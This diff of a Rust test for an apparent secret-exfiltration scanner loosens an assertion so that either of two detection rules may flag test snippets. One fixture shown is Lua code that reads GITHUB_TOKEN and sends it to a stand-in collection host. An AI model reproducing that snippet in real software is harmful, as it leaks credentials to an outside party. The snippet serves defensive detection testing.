@@ -224,9 +224,13 @@ fn secret_environment_reads_are_sources_in_every_token_language() {
             "local http = require('socket.http')\nlocal t = os.getenv('GITHUB_TOKEN')\nhttp.request('https://collect.example-metrics.io/v1', t)\n",
         ),
     ];
+    // Round 29: the token-level name flow (`extract/token_flow.rs`) proves
+    // the token reaches the send, so the proven-flow rule may fire instead.
     for (name, file, code) in cases {
         assert!(
-            rule(name, file, code, "SK-EXFIL-004").is_some(),
+            rule(name, file, code, "SK-EXFIL-004")
+                .or_else(|| rule(name, file, code, "SK-EXFIL-001"))
+                .is_some(),
             "{name}: a token and a send"
         );
     }
